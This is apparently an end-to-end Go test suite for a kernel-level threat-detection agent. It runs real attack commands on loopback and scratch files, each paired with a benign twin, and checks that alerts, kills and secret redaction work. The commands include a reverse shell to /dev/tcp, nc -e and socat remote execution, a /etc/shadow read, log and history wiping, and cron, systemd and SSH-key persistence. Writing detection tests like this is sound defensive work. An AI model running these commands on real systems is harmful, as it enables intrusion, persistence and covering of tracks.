package e2e

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/vigil-dev/vigil/internal/agenttest"
	"github.com/vigil-dev/vigil/internal/bpftest"
)

// alertLine is the part of an alert the scenario tests look at.
type alertLine struct {
	Kind    string `json:"kind"`
	Rule    string `json:"rule"`
	Action  string `json:"action"`
	Process struct {
		PID  uint32   `json:"pid"`
		Comm string   `json:"comm"`
		Exe  string   `json:"exe"`
		Args []string `json:"args"`
	} `json:"process"`
	Ancestors []struct {
		PID uint32 `json:"pid"`
		Exe string `json:"exe"`
	} `json:"ancestors"`
	Event struct {
		Kind string `json:"kind"`
		Path string `json:"path"`
	} `json:"event"`
}

// descends reports whether the alert's process is pid or one of its
// descendants.
func (a *alertLine) descends(pid uint32) bool {
	if a.Process.PID == pid {
		return true
	}
	for _, an := range a.Ancestors {
		if an.PID == pid {
			return true
		}
	}
	return false
}

func readAlerts(t *testing.T, path string) []alertLine {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []alertLine
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var a alertLine
		if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
			t.Fatalf("alerts file: not JSON: %q: %v", sc.Text(), err)
		}
		if a.Kind != "alert" {
			t.Fatalf("alerts file holds a %q event", a.Kind)
		}
		out = append(out, a)
	}
	return out
}

// scenario is one threat of the built-in ruleset, done for real, and its
// benign twin, which must not raise the rule.
type scenario struct {
	rule   string
	attack string // shell script, run by /bin/sh -c; DIR is the scratch directory
	benign string
	exe    string   // the alerting process's executable, when it matters
	needs  []string // programs the scenario runs
	// benignChildren: only the benign script's descendants must stay
	// quiet (the script's own shell, started by this test binary, is
	// itself a shell spawned by a non-shell).
	benignChildren       bool
	attackPID, benignPID uint32
}

func TestBuiltinRulesDetectEveryThreatClass(t *testing.T) {
	bpftest.Require(t)
	dir := varLibDir(t, "vigil-e2e-rules-")
	for _, d := range []string{"home/.ssh", "cg", "tmpfs", "del/sub", "keep"} {
		os.MkdirAll(filepath.Join(dir, d), 0o755)
	}
	for _, f := range []string{"f", "g", "job", "home/.bash_history", "home/.zsh_history", "home/.ssh/authorized_keys", "x.ko"} {
		os.WriteFile(filepath.Join(dir, f), []byte("x\n"), 0o644)
	}
	tag := filepath.Base(dir)
	logFile := "/var/log/" + tag + ".log"
	os.WriteFile(logFile, []byte("old\n"), 0o644)
	etcFile := "/etc/" + tag
	cronFile := "/etc/cron.d/" + tag
	movedCron := "/etc/cron.d/" + tag + "-moved"
	unitFile := "/etc/systemd/system/" + tag + ".service"
	libFile := "/usr/lib/" + tag
	os.MkdirAll("/etc/cron.d", 0o755)
	os.MkdirAll("/etc/systemd/system", 0o755)
	t.Cleanup(func() {
		for _, f := range []string{logFile, etcFile, cronFile, movedCron, unitFile, libFile} {
			os.Remove(f)
		}
		unix.Unmount(filepath.Join(dir, "cg"), unix.MNT_DETACH)
		unix.Unmount(filepath.Join(dir, "tmpfs"), unix.MNT_DETACH)
	})
	port := acceptAndDiscard(t)
	py := "/usr/bin/python3"

	scenarios := []scenario{
		{rule: "read-sensitive-file-untrusted", attack: "cat /etc/shadow >/dev/null", benign: "chage -l root >/dev/null", exe: "/usr/bin/cat", needs: []string{"chage"}},
		{rule: "shell-spawned-by-server", attack: `node -e 'require("child_process").execSync("true")'`, benign: `node -e 'require("child_process").execFileSync("/usr/bin/true")'`, needs: []string{"node"}},
		{rule: "ptrace-attach", attack: py + ` -c 'import ctypes,os,time; p=os.fork()
if p == 0: time.sleep(5); os._exit(0)
l=ctypes.CDLL(None); print(l.ptrace(16, p, 0, 0)); os.kill(p, 9)'`, benign: py + ` -c 'import ctypes,os; ctypes.CDLL(None).ptrace(3, os.getppid(), 0, 0)'`},
		{rule: "ptrace-traceme", attack: py + ` -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'`, benign: "strace -o /dev/null /usr/bin/true", needs: []string{"strace"}},
		{rule: "exec-from-memfd", attack: py + ` -c 'import os; fd=os.memfd_create("payload"); os.write(fd, open("/usr/bin/true","rb").read()); os.execv("/proc/self/fd/%d" % fd, ["payload"])'`, benign: "/usr/bin/true", exe: "/memfd:payload"},
		{rule: "memfd-create-by-interpreter", attack: py + ` -c 'import os; os.memfd_create("x")'`, benign: py + ` -c 'import os; os.pipe()'`},
		{rule: "exec-from-temp-dir", attack: "cp /usr/bin/true /dev/shm/" + tag + " && /dev/shm/" + tag + "; rm -f /dev/shm/" + tag, benign: "/usr/bin/true"},
		{rule: "link-to-sensitive-file", attack: "ln -s /etc/shadow DIR/shadow-link", benign: "ln -s /etc/hostname DIR/hostname-link"},
		{rule: "link-to-sensitive-file", attack: "cd DIR && ln ../../../etc/shadow hard-link 2>/dev/null; true", benign: "cd DIR && ln job job-link"},
		// This test binary is no shell: the script's own sh is the attack.
		{rule: "shell-spawned-by-non-shell", attack: "true", benign: "sh -c true", benignChildren: true},
		{rule: "truncate-log-file", attack: ": > " + logFile, benign: "echo new >> " + logFile},
		{rule: "delete-log-file", attack: "rm " + logFile, benign: "rm DIR/g"},
		{rule: "truncate-shell-history", attack: ": > DIR/home/.bash_history", benign: "echo ls >> DIR/home/.bash_history"},
		{rule: "delete-shell-history", attack: "rm DIR/home/.zsh_history && ln -s /dev/null DIR/home/.zsh_history", benign: "rm DIR/keep -r"},
		{rule: "data-destruction-tool", attack: "shred -u DIR/f", benign: "cp DIR/job DIR/job2"},
		{rule: "recursive-delete-of-root", attack: "rm -r --no-preserve-root DIR/del", benign: "mkdir DIR/del2 && rm -r DIR/del2"},
		{rule: "search-private-keys-or-passwords", attack: "find DIR -name id_rsa", benign: "find DIR -name '*.txt'"},
		{rule: "reverse-shell", attack: fmt.Sprintf("bash -c 'echo exit | bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port), benign: fmt.Sprintf("bash -c 'exec 3<>/dev/tcp/127.0.0.1/%d; echo hi >&3'", port), needs: []string{"bash"}},
		{rule: "netcat-remote-exec", attack: fmt.Sprintf("nc -e /usr/bin/true 127.0.0.1 %d </dev/null; true", port), benign: fmt.Sprintf("nc -z 127.0.0.1 %d", port), needs: []string{"nc"}},
		{rule: "socat-remote-exec", attack: fmt.Sprintf("socat TCP:127.0.0.1:%d EXEC:/usr/bin/true", port), benign: fmt.Sprintf("socat -u /dev/null TCP:127.0.0.1:%d", port), needs: []string{"socat"}},
		{rule: "packet-socket-untrusted", attack: py + ` -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'`, benign: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'`},
		{rule: "raw-socket-untrusted", attack: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'`, benign: py + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)'`},
		{rule: "module-tool-executed", attack: "insmod DIR/x.ko; true", benign: "lsmod >/dev/null; true", needs: []string{"insmod", "lsmod"}},
		{rule: "write-below-etc", attack: "echo x > " + etcFile, benign: "cat /etc/hostname >/dev/null"},
		{rule: "write-below-binary-dir", attack: "echo x > " + libFile, benign: "echo x > DIR/lib"},
		{rule: "setuid-setgid-bit-set", attack: "chmod u+s DIR/job", benign: "chmod 0755 DIR/job"},
		{rule: "cron-job-written", attack: "echo '* * * * * root true' > " + cronFile, benign: "cat /etc/crontab >/dev/null 2>&1; true"},
		{rule: "systemd-unit-written", attack: "printf '[Service]\\nExecStart=/usr/bin/true\\n' > " + unitFile, benign: "ls /etc/systemd/system >/dev/null"},
		{rule: "persistence-file-moved-in", attack: "cp DIR/job DIR/job3 && mv DIR/job3 " + movedCron, benign: "cp DIR/job DIR/job4 && mv DIR/job4 DIR/job5"},
		{rule: "ssh-authorized-keys-written", attack: "echo 'ssh-ed25519 AAAA attacker' >> DIR/home/.ssh/authorized_keys", benign: "cat DIR/home/.ssh/authorized_keys >/dev/null"},
		{rule: "release-agent-written", attack: "echo /evil > DIR/release_agent", benign: "echo fine > DIR/release_agent.txt"},
		{rule: "cgroup-v1-mount", attack: "mount -t cgroup -o none,name=" + tag + " cgroup DIR/cg", benign: "mount -t tmpfs tmpfs DIR/tmpfs", needs: []string{"mount"}},
	}
	if _, err := os.Stat(py); err != nil {
		bpftest.SkipOrFail(t, "Debian's python3 is not installed (scripts/setup.sh installs it)")
	}
	for _, s := range scenarios {
		for _, n := range s.needs {
			needTool(t, n)
		}
	}

	alerts := filepath.Join(dir, "alerts.jsonl")
	addr := freePort(t)
	v := startVigil(t, "vigil running", "run", "--listen", addr, "--alerts-file", alerts)
	defer v.stop()

	run := func(script string) uint32 {
		cmd := exec.Command("/bin/sh", "-c", strings.ReplaceAll(script, "DIR", dir))
		cmd.Dir = dir
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Logf("%s: %v: %s", script, err, out)
		}
		return uint32(cmd.Process.Pid)
	}
	for i := range scenarios {
		scenarios[i].attackPID = run(scenarios[i].attack)
		scenarios[i].benignPID = run(scenarios[i].benign)
	}
	// The barrier: a binary run from /tmp raises exec-from-temp-dir, and
	// everything done before it has then been through vigil.
	sentinel := filepath.Join(os.TempDir(), tag+"-sentinel")
	b, _ := os.ReadFile("/usr/bin/true")
	os.WriteFile(sentinel, b, 0o755)
	defer os.Remove(sentinel)
	deadline := time.Now().Add(15 * time.Second)
	var got []alertLine
	for {
		got = readAlerts(t, alerts)
		if slices.ContainsFunc(got, func(a alertLine) bool { return a.Rule == "exec-from-temp-dir" && a.Process.Exe == sentinel }) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no alert for the sentinel %s after 15 s; %d alerts", sentinel, len(got))
		}
		exec.Command(sentinel).Run()
		time.Sleep(200 * time.Millisecond)
	}

	for _, s := range scenarios {
		var attack, benign []alertLine
		for _, a := range got {
			if a.Rule != s.rule {
				continue
			}
			if a.descends(s.attackPID) {
				attack = append(attack, a)
			}
			if a.descends(s.benignPID) && !(s.benignChildren && a.Process.PID == s.benignPID) {
				benign = append(benign, a)
			}
		}
		if len(attack) == 0 {
			t.Errorf("%s: no alert for %q", s.rule, s.attack)
		} else if s.exe != "" && attack[0].Process.Exe != s.exe {
			t.Errorf("%s: alerting process %s, want %s", s.rule, attack[0].Process.Exe, s.exe)
		} else if len(attack[0].Ancestors) == 0 {
			t.Errorf("%s: alert without lineage", s.rule)
		}
		for _, a := range benign {
			t.Errorf("%s: the benign twin %q alerted (%s %v)", s.rule, s.benign, a.Process.Exe, a.Process.Args)
		}
	}
	_, body := httpGet(t, "http://"+addr+"/metrics")
	if n := metricValue(t, body, `vigil_alerts_total{action="alert",rule="read-sensitive-file-untrusted",severity="high"}`); n < 1 {
		t.Errorf("vigil_alerts_total for read-sensitive-file-untrusted = %v", n)
	}
	for _, src := range []string{"process", "file", "network", "privilege"} {
		if n := metricValue(t, body, fmt.Sprintf(`vigil_events_lost_total{source=%q}`, src)); n != 0 {
			t.Errorf("%s lost %v records", src, n)
		}
	}
}

// acceptAndDiscard runs a loopback TCP server that says "exit" (so that a
// shell wired to the connection ends at once), reads and drops what it
// gets, and returns its port.
func acceptAndDiscard(t *testing.T) int {
	t.Helper()
	return agenttest.Serve(t, func(c net.Conn) {
		defer c.Close()
		c.SetDeadline(time.Now().Add(3 * time.Second))
		c.Write([]byte("exit\n"))
		buf := make([]byte, 4096)
		for {
			if _, err := c.Read(buf); err != nil {
				return
			}
		}
	})
}

// TestTraceAlertsFromARulesFile runs `vigil trace --kind alert,unlink` with
// a rules file of its own: an alert for an unlink, a kill at exec, and the
// raw unlink events of every process.
func TestTraceAlertsFromARulesFile(t *testing.T) {
	bpftest.Require(t)
	dir := varLibDir(t, "vigil-e2e-trace-")
	rules := filepath.Join(dir, "rules.yaml")
	os.WriteFile(rules, []byte(strings.ReplaceAll(`rules:
  - name: watched-unlink
    description: something removed a watched file
    severity: high
    tags: [test]
    events: [unlink]
    match:
      path: {prefix: [DIR/watched/]}
  - name: no-dropped-binaries
    description: nothing runs from DIR/bin
    severity: critical
    events: [exec]
    match:
      exe: {prefix: [DIR/bin/]}
    action: kill
`, "DIR", dir)), 0o644)
	os.MkdirAll(filepath.Join(dir, "watched"), 0o755)
	os.WriteFile(filepath.Join(dir, "watched", "f"), []byte("x"), 0o644)
	os.WriteFile(filepath.Join(dir, "other"), []byte("x"), 0o644)
	b, _ := os.ReadFile("/usr/bin/touch")
	os.MkdirAll(filepath.Join(dir, "bin"), 0o755)
	os.WriteFile(filepath.Join(dir, "bin", "touch"), b, 0o755)

	v := startVigil(t, "tracing", "trace", "--json", "--kind", "alert,unlink", "--no-default-rules", "--rules", rules)
	lines := v.stdoutLines()

	rm := exec.Command("/bin/sh", "-c", "rm "+filepath.Join(dir, "watched", "f")+" "+filepath.Join(dir, "other"))
	if out, err := rm.CombinedOutput(); err != nil {
		t.Fatalf("rm: %v: %s", err, out)
	}
	dropped := exec.Command(filepath.Join(dir, "bin", "touch"), filepath.Join(dir, "marker"))
	err := dropped.Run()
	if st, ok := dropped.ProcessState.Sys().(syscall.WaitStatus); !ok || !st.Signaled() || st.Signal() != syscall.SIGKILL {
		t.Errorf("the dropped binary: %v, want killed by SIGKILL", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "marker")); !os.IsNotExist(err) {
		t.Errorf("the killed binary still ran: %v", err)
	}

	type line struct {
		Kind    string `json:"kind"`
		Path    string `json:"path"`
		Result  *int64 `json:"result"`
		Rule    string `json:"rule"`
		Action  string `json:"action"`
		Process struct {
			Exe string `json:"exe"`
		} `json:"process"`
		Ancestors []struct {
			Exe string `json:"exe"`
		} `json:"ancestors"`
		Event struct {
			Kind string `json:"kind"`
			Path string `json:"path"`
		} `json:"event"`
	}
	var unlinks []string
	var gotAlert, gotKill bool
	timeout := time.After(10 * time.Second)
	for !(gotAlert && gotKill && len(unlinks) >= 2) {
		select {
		case l, ok := <-lines:
			if !ok {
				t.Fatal("vigil closed stdout")
			}
			var ev line
			if err := json.Unmarshal([]byte(l), &ev); err != nil {
				t.Fatalf("not JSON: %v: %s", err, l)
			}
			switch ev.Kind {
			case "unlink":
				if strings.HasPrefix(ev.Path, dir) {
					unlinks = append(unlinks, ev.Path)
					if ev.Result == nil || *ev.Result != 0 || ev.Process.Exe != "/usr/bin/rm" || len(ev.Ancestors) == 0 {
						t.Errorf("unlink event %s", l)
					}
				}
			case "alert":
				switch ev.Rule {
				case "watched-unlink":
					gotAlert = true
					if ev.Event.Path != filepath.Join(dir, "watched", "f") || ev.Action != "alert" {
						t.Errorf("alert %s", l)
					}
				case "no-dropped-binaries":
					gotKill = true
					if ev.Action != "kill" || ev.Event.Kind != "exec" {
						t.Errorf("kill alert %s", l)
					}
				default:
					t.Errorf("alert of rule %q: only the file's rules are loaded", ev.Rule)
				}
			default:
				t.Fatalf("--kind alert,unlink let through %q", ev.Kind)
			}
		case <-timeout:
			t.Fatalf("after 10 s: alert %v, kill %v, unlinks %v", gotAlert, gotKill, unlinks)
		}
	}
	if !slices.Contains(unlinks, filepath.Join(dir, "other")) {
		t.Errorf("unlinks %v: the unwatched file's unlink is an event too", unlinks)
	}
	v.stop()
}

// TestRunStopsWhileNobodyReadsItsAlerts: alerts go to a stdout pipe nobody
// reads, far more than the pipe holds. vigil keeps counting, still exits
// within 2 s of SIGTERM, and says how many alerts it could not write: every
// alert is either in the pipe or in that count.
func TestRunStopsWhileNobodyReadsItsAlerts(t *testing.T) {
	bpftest.Require(t)
	dir := varLibDir(t, "vigil-e2e-stuck-")
	watched := filepath.Join(dir, "watched")
	os.WriteFile(watched, []byte("x"), 0o644)
	rules := filepath.Join(dir, "rules.yaml")
	os.WriteFile(rules, []byte(`rules:
  - name: watched-open
    description: something opened the watched file
    severity: low
    events: [open]
    match:
      path: {exact: [`+watched+`]}
`), 0o644)
	addr := freePort(t)
	v := startVigil(t, "vigil running", "run", "--listen", addr, "--no-default-rules", "--rules", rules)

	const n = 3000
	loop := fmt.Sprintf(`i=0; while [ $i -lt %d ]; do : < %s; i=$((i+1)); done`, n, watched)
	if out, err := exec.Command("/bin/sh", "-c", loop).CombinedOutput(); err != nil {
		t.Fatalf("open loop: %v: %s", err, out)
	}
	// Unpaced opens can outrun the ring buffer (the loss is counted):
	// what matters is what vigil raised, once the count settles.
	series := `vigil_alerts_total{action="alert",rule="watched-open",severity="low"}`
	var body string
	raised := -1
	for deadline := time.Now().Add(10 * time.Second); ; {
		_, body = httpGet(t, "http://"+addr+"/metrics")
		now := -1
		if strings.Contains(body, series+" ") {
			now = int(metricValue(t, body, series))
		}
		if now > 0 && now == raised {
			break
		}
		raised = now
		if time.Now().After(deadline) {
			t.Fatalf("alerts raised: %s", grepLines(body, "watched-open"))
		}
		time.Sleep(300 * time.Millisecond)
	}
	lost := int(metricValue(t, body, `vigil_events_lost_total{source="process"}`))
	if raised+lost < n {
		t.Fatalf("%d alerts raised and %d records lost for %d opens", raised, lost, n)
	}
	queueDropped := int(metricValue(t, body, `vigil_events_dropped_total{stage="alerts"}`))

	v.stop()

	// What the pipe holds: whole lines, and perhaps the start of one.
	out, err := io.ReadAll(v.stdoutR)
	if err != nil {
		t.Fatal(err)
	}
	written, shortest := 0, len(out)
	for _, l := range strings.SplitAfter(string(out), "\n") {
		if strings.HasSuffix(l, "\n") {
			written++
			shortest = min(shortest, len(l))
		}
	}
	var notWritten int
	for _, l := range strings.Split(v.stderr.String(), "\n") {
		if strings.Contains(l, "closing the alert output") {
			if _, err := fmt.Sscanf(l[strings.Index(l, `error="`)+len(`error="`):], "%d lines not written", &notWritten); err != nil {
				t.Fatalf("warning %q: %v", l, err)
			}
		}
	}
	if written >= raised || notWritten == 0 {
		t.Fatalf("%d alerts in the pipe, %d reported not written, of %d: the pipe should have filled", written, notWritten, raised)
	}
	// The write vigil was blocked in may have put some of its lines in the
	// pipe: those are in both counts, and there are at most a write's
	// worth (64 KiB) of them.
	accounted := written + notWritten + queueDropped
	if accounted < raised || accounted-raised > 64<<10/shortest+1 {
		t.Errorf("%d alerts in the pipe + %d reported not written + %d dropped from the queue, of %d raised", written, notWritten, queueDropped, raised)
	}
}

// varLibDir makes a directory of the test's own under /var/lib, removed
// after the test.
func varLibDir(t *testing.T, prefix string) string {
	t.Helper()
	dir, err := os.MkdirTemp("/var/lib", prefix)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// grepLines returns the lines of s that contain sub.
func grepLines(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}

// TestSecretsInCommandLinesAreHidden: passwords and tokens in command lines
// are hidden in what vigil writes out, and only there. The rule's condition
// needs the real arguments of the process and of its parent shell, so its
// alert proves that rules see them whole; the alert as written shows
// neither, nor does vigil trace, unless --show-secrets.
func TestSecretsInCommandLinesAreHidden(t *testing.T) {
	bpftest.Require(t)
	dir := varLibDir(t, "vigil-e2e-redact-")
	tool := filepath.Join(dir, "bin", "tool")
	b, _ := os.ReadFile("/bin/true")
	os.MkdirAll(filepath.Dir(tool), 0o755)
	if err := os.WriteFile(tool, b, 0o755); err != nil {
		t.Fatal(err)
	}
	rules := filepath.Join(dir, "rules.yaml")
	os.WriteFile(rules, []byte(strings.ReplaceAll(`rules:
  - name: tool-with-its-token
    description: the tool ran with the token the test gave it
    severity: low
    events: [exec]
    match:
      exe: {exact: [TOOL]}
    condition: >-
      process.args.exists(a, a == "--token=hunter2-e2e") &&
      ancestors.size() > 0 && ancestors[0].args.exists(a, a.contains("PGPASSWORD=pw-e2e-7"))
`, "TOOL", tool)), 0o644)
	shell := "PGPASSWORD=pw-e2e-7 " + tool + " --token=hunter2-e2e -H 'Authorization: Bearer tok-e2e' " +
		`-H 'X-Vault-Token: vt-e2e' --db-pass=dbp-e2e '{"password":"js-e2e"}' https://u:pass-e2e@h/x?key=q-e2e#f-e2e; exit 0`
	secrets := []string{"hunter2-e2e", "pw-e2e-7", "tok-e2e", "pass-e2e", "q-e2e", "vt-e2e", "dbp-e2e", "js-e2e", "f-e2e"}
	runShell := func() {
		t.Helper()
		if out, err := exec.Command("/bin/sh", "-c", shell).CombinedOutput(); err != nil {
			t.Fatalf("sh: %v: %s", err, out)
		}
	}
	// waitFor returns the first line of lines that contains want.
	waitFor := func(lines <-chan string, want string) string {
		t.Helper()
		timeout := time.After(10 * time.Second)
		for {
			select {
			case l, ok := <-lines:
				if !ok {
					t.Fatal("vigil closed stdout")
				}
				if strings.Contains(l, want) {
					return l
				}
			case <-timeout:
				t.Fatalf("no line with %q within 10 s", want)
			}
		}
	}
	hidden := func(what, l string) {
		t.Helper()
		for _, s := range secrets {
			if strings.Contains(l, s) {
				t.Errorf("%s shows the secret %q: %s", what, s, l)
			}
		}
	}

	t.Run("run", func(t *testing.T) {
		v := startVigil(t, "vigil running", "run", "--listen", freePort(t), "--no-default-rules", "--rules", rules)
		runShell()
		l := waitFor(v.stdoutLines(), `"rule":"tool-with-its-token"`)
		hidden("the alert", l)
		var a struct {
			Process   struct{ Args []string } `json:"process"`
			Ancestors []struct{ Args []string }
			Event     struct {
				Process struct{ Args []string } `json:"process"`
			} `json:"event"`
		}
		if err := json.Unmarshal([]byte(l), &a); err != nil {
			t.Fatal(err)
		}
		want := []string{tool, "--token=<redacted>", "-H", "Authorization: <redacted>", "-H", "X-Vault-Token: <redacted>",
			"--db-pass=<redacted>", `{"password":"<redacted>"}`, "https://u:<redacted>@h/x?<redacted>#<redacted>"}
		if !slices.Equal(a.Process.Args, want) || !slices.Equal(a.Event.Process.Args, want) {
			t.Errorf("args %q, event's %q; want %q", a.Process.Args, a.Event.Process.Args, want)
		}
		if len(a.Ancestors) == 0 || len(a.Ancestors[0].Args) != 3 || !strings.HasPrefix(a.Ancestors[0].Args[2], "PGPASSWORD=<redacted> "+tool+" --token=<redacted> ") {
			t.Errorf("the parent shell: %+v", a.Ancestors)
		}
		v.stop()
	})
	t.Run("trace", func(t *testing.T) {
		v := startVigil(t, "tracing", "trace", "--json", "--kind", "exec", "--no-default-rules")
		runShell()
		hidden("vigil trace", waitFor(v.stdoutLines(), `"exe":"`+tool+`"`))
		v.stop()
	})
	t.Run("trace --show-secrets", func(t *testing.T) {
		v := startVigil(t, "tracing", "trace", "--json", "--kind", "exec", "--no-default-rules", "--show-secrets")
		runShell()
		if l := waitFor(v.stdoutLines(), `"exe":"`+tool+`"`); !strings.Contains(l, "--token=hunter2-e2e") || !strings.Contains(l, "PGPASSWORD=pw-e2e-7") {
			t.Errorf("--show-secrets hid something: %s", l)
		}
		v.stop()
	})
}
